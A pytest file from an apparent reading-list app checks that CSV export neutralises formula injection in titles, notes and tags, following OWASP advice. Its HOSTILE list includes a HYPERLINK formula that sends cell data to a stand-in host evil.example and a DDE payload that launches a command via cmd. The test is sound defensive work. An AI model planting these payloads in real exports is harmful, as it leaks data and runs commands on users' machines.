"""CSV export never hands a spreadsheet a formula (issue 10, 3): titles, notes and tags come from
web pages and imports; OWASP's advice is to make a cell that starts with = + - @ tab or CR text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from waitbuddy.reading.export import export_csv
from waitbuddy.reading.importers import parse_bytes
from waitbuddy.reading.model import Item

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "\t=1+1", "\r=1+1", "'=already quoted", "'plain apostrophe", "fine title"]


@pytest.mark.parametrize("title", HOSTILE)
def test_a_formula_like_title_is_written_as_text_and_reads_back_the_same(title):
    item = Item(1, "https://e.com/a", title, "article", "x", datetime(2024, 1, 1, tzinfo=UTC),
                note=title, tags=(title.replace("|", ""),))
    text = export_csv([item])
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    for column in ("title", "note", "tags"):
        assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
    (back,) = parse_bytes(text.encode(), "export.csv").bookmarks
    assert (back.title.strip(), back.note) == (title.strip(), title.strip())
